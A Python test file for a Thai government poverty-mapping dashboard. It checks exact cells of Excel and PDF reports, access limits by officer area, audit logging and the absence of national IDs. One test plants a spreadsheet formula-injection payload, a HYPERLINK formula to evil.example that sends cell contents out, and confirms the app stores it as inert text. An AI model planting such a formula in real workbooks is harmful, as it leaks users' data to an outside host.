"""The official reports on the persona warehouse of tests/web_kit.py: exact cells of the
workbooks (hand-computed from the personas), Thai PDFs, area scoping, no national IDs."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.web_kit import H1, H2, H3, H4, H5, YEAR
from tpmap.dashboard.reports.services import HEADER_ROW
from tpmap.logbook.models import Activity, Problem

pytestmark = pytest.mark.django_db

VILLAGE = {H1: "34010101", H2: "34010101", H3: "34010102", H4: "34020101", H5: "35010101"}
NAME_3401 = "เมืองอุบลราชธานี"
NAME_3402 = "ศรีเมืองใหม่"


def sheet(content: bytes) -> list[list[Any]]:
    ws = load_workbook(io.BytesIO(content)).active
    assert ws is not None
    return [["" if v is None else v for v in row] for row in ws.iter_rows(values_only=True)]


def get(client: Any, user: Any, url: str, **params: str) -> Any:
    client.force_login(user)
    return client.get(url, params)


def body(rows: list[list[Any]]) -> list[list[Any]]:
    return rows[HEADER_ROW:]


def check_totals(rows: list[list[Any]], label_cols: int) -> None:
    *data, total = body(rows)
    assert total[0] == "รวม"
    for i in range(label_cols, len(total)):
        assert total[i] == sum(r[i] for r in data)


def test_register_summary_of_a_province_has_a_row_per_district(client: Any, people: Any) -> None:
    r = get(client, people["prov_admin"], "/reports/register/34.xlsx")
    assert r.status_code == 200
    assert r["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = sheet(r.content)
    assert rows[0][0] == "สรุปข้อมูลครัวเรือนเป้าหมายและคนเป้าหมาย"
    assert rows[2][0] == f"ปีข้อมูล พ.ศ. {YEAR}"
    # The day made is a real date cell, shown in the Buddhist era.
    assert rows[3][0] == "วันที่จัดทำ"
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    made = ws.cell(row=4, column=2)
    assert made.is_date and made.value.date() == date.today()
    assert made.number_format == "[$-107041E]d mmmm yyyy;@"
    # Counts carry thousands separators.
    assert ws.cell(row=HEADER_ROW + 1, column=3).number_format == "#,##0"
    header = rows[HEADER_ROW - 1]
    assert header[:5] == [
        "รหัส",
        "อำเภอ",
        "ครัวเรือนเป้าหมาย",
        "ผู้ถือบัตรสวัสดิการแห่งรัฐ",
        "สมาชิกครัวเรือนเป้าหมาย",
    ]
    assert header[5] == "ครัวเรือนเป้าหมายขาดด้านสุขภาพ" and header[-1] == "คนเป้าหมาย"
    # 3401: target households H1 (3 members, 3 targets) and H3 (2 and 2); card holders in
    # target households (INDICATORS.md §5b): Somchai (H1; Somsri's card was revoked) and
    # Kham (H3), not Malee (H2 is no target household) nor the registry-only Fah.
    # H1 is deprived in health and income, H3 in living, education and income.
    # 3402: H4 (1 member, income, no card).
    assert body(rows) == [
        ["3401", NAME_3401, 2, 2, 5, 1, 1, 1, 2, 0, 5],
        ["3402", NAME_3402, 1, 0, 1, 0, 0, 0, 1, 0, 1],
        ["รวม", "", 3, 2, 6, 1, 1, 1, 3, 0, 6],
    ]
    check_totals(rows, 2)


def test_register_summary_of_a_district_has_a_row_per_subdistrict(client: Any, people: Any) -> None:
    rows = sheet(get(client, people["district"], "/reports/register/3401.xlsx").content)
    assert rows[HEADER_ROW - 1][1] == "ตำบล"
    assert body(rows) == [
        ["340101", "ในเมือง", 2, 2, 5, 1, 1, 1, 2, 0, 5],
        ["รวม", "", 2, 2, 5, 1, 1, 1, 2, 0, 5],
    ]


def test_mpi_combinations_per_district_and_dimension(client: Any, people: Any) -> None:
    rows = sheet(get(client, people["prov_admin"], "/reports/mpi/34.xlsx").content)
    assert rows[HEADER_ROW - 1] == ["รหัส", "อำเภอ", "มิติ", "ตัวชี้วัดที่ไม่ผ่าน", "จำนวนครัวเรือน"]
    # Mapping 2560: health 1,4,5,7; living 8-11; education 15-17,19; income 20-22.
    # MPI-poor: H1 fails 7, 22; H3 fails 8, 9, 10, 11, 15, 20, 21 (both 3401); H4 fails 22
    # (3402). The province as a whole first, then each district; per dimension "ผ่าน" (the
    # MPI-poor households not deprived in it) first, then combinations, most frequent
    # first: each dimension's rows add up to the area's MPI-poor households (3, 2, 1).
    P, D1, D2 = ["34", "อุบลราชธานี"], ["3401", NAME_3401], ["3402", NAME_3402]
    assert body(rows) == [
        [*P, "ด้านสุขภาพ", "ผ่าน", 2],
        [*P, "ด้านสุขภาพ", "ไม่ผ่าน [7]", 1],
        [*P, "ด้านความเป็นอยู่", "ผ่าน", 2],
        [*P, "ด้านความเป็นอยู่", "ไม่ผ่าน [8,9,10,11]", 1],
        [*P, "ด้านการศึกษา", "ผ่าน", 2],
        [*P, "ด้านการศึกษา", "ไม่ผ่าน [15]", 1],
        [*P, "ด้านรายได้", "ผ่าน", 0],
        [*P, "ด้านรายได้", "ไม่ผ่าน [22]", 2],
        [*P, "ด้านรายได้", "ไม่ผ่าน [20,21]", 1],
        [*P, "ด้านการเข้าถึงบริการรัฐ", "ผ่าน", 3],
        [*D1, "ด้านสุขภาพ", "ผ่าน", 1],
        [*D1, "ด้านสุขภาพ", "ไม่ผ่าน [7]", 1],
        [*D1, "ด้านความเป็นอยู่", "ผ่าน", 1],
        [*D1, "ด้านความเป็นอยู่", "ไม่ผ่าน [8,9,10,11]", 1],
        [*D1, "ด้านการศึกษา", "ผ่าน", 1],
        [*D1, "ด้านการศึกษา", "ไม่ผ่าน [15]", 1],
        [*D1, "ด้านรายได้", "ผ่าน", 0],
        [*D1, "ด้านรายได้", "ไม่ผ่าน [22]", 1],
        [*D1, "ด้านรายได้", "ไม่ผ่าน [20,21]", 1],
        [*D1, "ด้านการเข้าถึงบริการรัฐ", "ผ่าน", 2],
        [*D2, "ด้านสุขภาพ", "ผ่าน", 1],
        [*D2, "ด้านความเป็นอยู่", "ผ่าน", 1],
        [*D2, "ด้านการศึกษา", "ผ่าน", 1],
        [*D2, "ด้านรายได้", "ผ่าน", 0],
        [*D2, "ด้านรายได้", "ไม่ผ่าน [22]", 1],
        [*D2, "ด้านการเข้าถึงบริการรัฐ", "ผ่าน", 1],
    ]
    poor = {"34": 3, "3401": 2, "3402": 1}
    for code, n in poor.items():
        for dim in ("ด้านสุขภาพ", "ด้านความเป็นอยู่", "ด้านการศึกษา", "ด้านรายได้"):
            assert sum(r[4] for r in body(rows) if r[0] == code and r[2] == dim) == n


def record_work(user: Any) -> None:
    def problem(hh: str, agency: str, on: date) -> None:
        Problem.objects.create(
            year=YEAR,
            household_id=hh,
            village_code=VILLAGE[hh],
            created_by=user,
            title="ไม่มีงานทำ",
            performer="ทีม",
            agency=agency,
            occurred_on=on,
        )

    def activity(hh: str, agency: str, start: date, end: date | None) -> None:
        Activity.objects.create(
            year=YEAR,
            household_id=hh,
            village_code=VILLAGE[hh],
            created_by=user,
            name="ฝึกอาชีพ",
            performer="ทีม",
            agency=agency,
            start_on=start,
            end_on=end,
        )

    problem(H1, "พช.", date(2024, 1, 5))
    problem(H4, "พช.", date(2024, 1, 10))
    problem(H5, "พช.", date(2024, 1, 5))  # Yasothon: outside province 34
    problem(H2, "สาธารณสุข", date(2024, 2, 1))  # another month
    activity(H1, "พช.", date(2024, 1, 6), date(2024, 1, 7))
    activity(H2, "อบต.", date(2023, 12, 20), date(2024, 1, 15))  # finished in January
    activity(H4, "อบต.", date(2024, 1, 20), None)


def test_monthly_assistance_per_agency(client: Any, people: Any) -> None:
    record_work(people["national"])
    r = get(client, people["prov_admin"], "/reports/assistance/34.xlsx", month="2567-01")
    rows = sheet(r.content)
    assert rows[2][0] == "เดือนมกราคม 2567"
    assert body(rows) == [
        ["พช.", 2, 1, 1, 2],
        ["อบต.", 0, 1, 1, 2],
        ["รวม", 2, 2, 2, 4],
    ]
    check_totals(rows, 1)
    # The same month in the Christian era; a district sees its own work only.
    rows = sheet(
        get(client, people["district"], "/reports/assistance/3401.xlsx", month="2024-01").content
    )
    assert body(rows) == [["พช.", 1, 1, 1, 1], ["อบต.", 0, 0, 1, 1], ["รวม", 1, 1, 2, 2]]


def test_household_list_of_a_district_for_field_teams(client: Any, people: Any) -> None:
    rows = sheet(get(client, people["district"], "/reports/households/3401.xlsx").content)
    assert rows[HEADER_ROW - 1][:4] == ["รหัสบ้าน", "รหัสหมู่บ้าน", "บ้านเลขที่", "หัวหน้าครัวเรือน"]
    data = body(rows)
    assert [r[0] for r in data] == [H1, H3]  # Malee's H2 is neither MPI-poor nor a target
    assert data[0][1:4] == ["34010101", "12/3", "สมชาย ใจดี"]
    assert data[0][5:] == [3, 3, "7, 22"]
    assert data[1][3] == "บุญมี มีสุข" and data[1][5:] == [2, 2, "8, 9, 10, 11, 15, 20, 21"]
    # A province's list: every district of it (H4 is in Si Mueang Mai, 3402); the country's
    # would be too long.
    province = body(sheet(get(client, people["prov_admin"], "/reports/households/34.xlsx").content))
    assert [r[0] for r in province] == [H1, H3, H4]
    assert get(client, people["national"], "/reports/households/TH.xlsx").status_code == 404


def test_a_list_too_long_for_a_pdf_points_to_the_workbook(
    client: Any, people: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tpmap.dashboard.reports import views

    monkeypatch.setattr(views, "PDF_MAX_ROWS", 2)
    nid = "1100000000016"  # typed into the address: never echoed back
    r = get(client, people["prov_admin"], "/reports/households/34.pdf", year=str(YEAR), q=nid)
    assert r.status_code == 413
    text = r.content.decode()
    assert nid not in text
    assert "รายชื่อนี้มี 3 ครัวเรือน แต่ไฟล์ PDF ทำได้ไม่เกิน 2 ครัวเรือน" in text
    assert f'href="/reports/households/34.xlsx?year={YEAR}"' in text
    assert get(client, people["district"], "/reports/households/3401.pdf").status_code == 200


def test_every_report_download_is_audited_and_a_refused_one_is_not(
    client: Any, people: Any
) -> None:
    from tpmap.accounts.models import AuditEvent

    get(client, people["district"], "/reports/households/3401.pdf")
    get(client, people["prov_admin"], "/reports/register/34.xlsx")
    get(client, people["other_district"], "/reports/households/3401.xlsx")  # 404
    events = list(
        AuditEvent.objects.order_by("id").values_list(
            "actor_username", "action", "object_type", "object_id", "area_code", "year", "after"
        )
    )
    assert events == [
        (
            "district",
            "export",
            "report_households",
            "3401.pdf",
            "3401",
            YEAR,
            {"format": "pdf", "rows": 2},
        ),
        (
            "prov_admin",
            "export",
            "report_register",
            "34.xlsx",
            "34",
            YEAR,
            {"format": "xlsx", "rows": 2},
        ),
    ]


def test_pdf_reports_carry_thai_text_in_an_embedded_font(client: Any, people: Any) -> None:
    from pypdf import PdfReader

    r = get(client, people["prov_admin"], "/reports/register/34.pdf")
    assert r.status_code == 200 and r["Content-Type"] == "application/pdf"
    assert r.content.startswith(b"%PDF")
    assert b"/FontFile2" in r.content and b"Sarabun" in r.content
    text = "".join(p.extract_text() or "" for p in PdfReader(io.BytesIO(r.content)).pages)
    assert "ครัวเรือนเป้าหมาย" in text and NAME_3402 in text


@pytest.mark.parametrize(
    ("persona", "url"),
    [
        ("other_district", "/reports/register/3401.xlsx"),
        ("other_district", "/reports/households/3401.pdf"),
        ("other_district", "/reports/mpi/34.xlsx"),  # wider than their own district
        ("team", "/reports/households/3401.xlsx"),
        ("other_admin", "/reports/assistance/34.xlsx"),
        ("district", "/reports/register/TH.xlsx"),
    ],
)
def test_an_officer_gets_no_report_of_another_area(
    client: Any, people: Any, persona: str, url: str
) -> None:
    assert get(client, people[persona], url).status_code == 404


def test_reports_need_a_login(client: Any) -> None:
    r = client.get("/reports/register/34.xlsx")
    assert r.status_code == 302 and "/login/" in r["Location"]


def test_the_index_lists_the_four_reports_of_the_officers_area(client: Any, people: Any) -> None:
    html = get(client, people["district"], "/reports/").content.decode()
    for kind in ("register", "mpi", "assistance", "households"):
        assert f'data-report="{kind}"' in html
        assert f"/reports/{kind}/3401.xlsx" in html and f"/reports/{kind}/3401.pdf" in html
    # Another area asked for: the officer's own area is shown instead.
    html = get(client, people["district"], "/reports/", area="3402").content.decode()
    assert "/reports/register/3401.xlsx" in html and "3402.xlsx" not in html


def test_no_report_shows_a_full_national_id(client: Any, people: Any) -> None:
    from pypdf import PdfReader

    record_work(people["national"])
    for kind, area in [
        ("register", "TH"),
        ("mpi", "TH"),
        ("assistance", "TH"),
        ("households", "3401"),
        ("households", "3402"),
    ]:
        for fmt in ("xlsx", "pdf"):
            r = get(client, people["national"], f"/reports/{kind}/{area}.{fmt}", month="2024-01")
            assert r.status_code == 200, (kind, area, fmt)
            if fmt == "xlsx":
                with zipfile.ZipFile(io.BytesIO(r.content)) as z:
                    text = "".join(z.read(n).decode("utf-8") for n in z.namelist())
            else:
                reader = PdfReader(io.BytesIO(r.content))
                text = "".join(p.extract_text() or "" for p in reader.pages)
            assert not re.search(r"(?<!\d)\d{13}(?!\d)", text), (kind, area, fmt)


@pytest.mark.parametrize("kind", ["register", "mpi", "assistance", "households"])
@pytest.mark.parametrize("fmt", ["xlsx", "pdf"])
def test_a_report_with_no_rows_is_a_valid_report(
    client: Any, people: Any, kind: str, fmt: str
) -> None:
    # Hua Ruea (340104) has no household in the persona warehouse and no Logbook work.
    r = get(client, people["mentor"], f"/reports/{kind}/340104.{fmt}", month="2567-01")
    assert r.status_code == 200
    if fmt == "xlsx":
        rows = sheet(r.content)
        data = body(rows)
        if kind in ("households", "mpi"):  # a list has no totals row; nor the MPI table
            assert data == []
        else:
            width = len(rows[HEADER_ROW - 1])
            label_cols = {"register": 2, "assistance": 1}[kind]
            assert data == [["รวม", *[""] * (label_cols - 1), *[0] * (width - label_cols)]]
    else:
        from pypdf import PdfReader

        text = "".join(p.extract_text() or "" for p in PdfReader(io.BytesIO(r.content)).pages)
        assert "พื้นที่" in text
    from tpmap.accounts.models import AuditEvent

    assert list(AuditEvent.objects.values_list("object_id", "after")) == [
        (f"340104.{fmt}", {"format": fmt, "rows": 0})
    ]


def test_an_agency_typed_as_a_formula_is_a_text_in_the_workbook(client: Any, people: Any) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&B1,"คลิก")'
    Problem.objects.create(
        year=YEAR,
        household_id=H1,
        village_code=VILLAGE[H1],
        created_by=people["district"],
        title="ไม่มีงานทำ",
        performer="ทีม",
        agency=hostile,
        occurred_on=date(2024, 1, 5),
    )
    r = get(client, people["district"], "/reports/assistance/3401.xlsx", month="2567-01")
    sheet_xml = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    agency = ws.cell(row=HEADER_ROW + 1, column=1)
    assert (agency.value, agency.data_type, agency.quotePrefix) == (hostile, "s", True)
    count = ws.cell(row=HEADER_ROW + 1, column=2)
    assert (count.value, count.data_type) == (1, "n")  # numbers stay numbers


def test_thai_headers_wrap_between_words_never_inside_one() -> None:
    from fpdf import FPDF

    from tpmap.dashboard.reports.services import _shown, _wrap, thai_font, words

    header = "ครัวเรือนเป้าหมายขาดด้านความเป็นอยู่"
    assert words(header) == ["ครัวเรือน", "เป้าหมาย", "ขาด", "ด้าน", "ความเป็นอยู่"]
    assert words("ผู้ถือบัตร สวัสดิการ") == ["ผู้", "ถือ", "บัตร ", "สวัสดิการ"]
    pdf = FPDF()
    pdf.add_font("Sarabun", "", str(thai_font()))
    pdf.set_font("Sarabun", "", 9)
    pdf.set_text_shaping(True)
    lines = _wrap(pdf, header, pdf.get_string_width("ครัวเรือนเป้าหมาย") + 0.5)
    assert lines == ["ครัวเรือนเป้าหมาย", "ขาดด้าน", "ความเป็นอยู่"]
    assert "".join(lines) == header
    # Counts are printed with thousands separators, codes as they are.
    assert (_shown(1775), _shown("3401"), _shown(None)) == ("1,775", "3401", "")
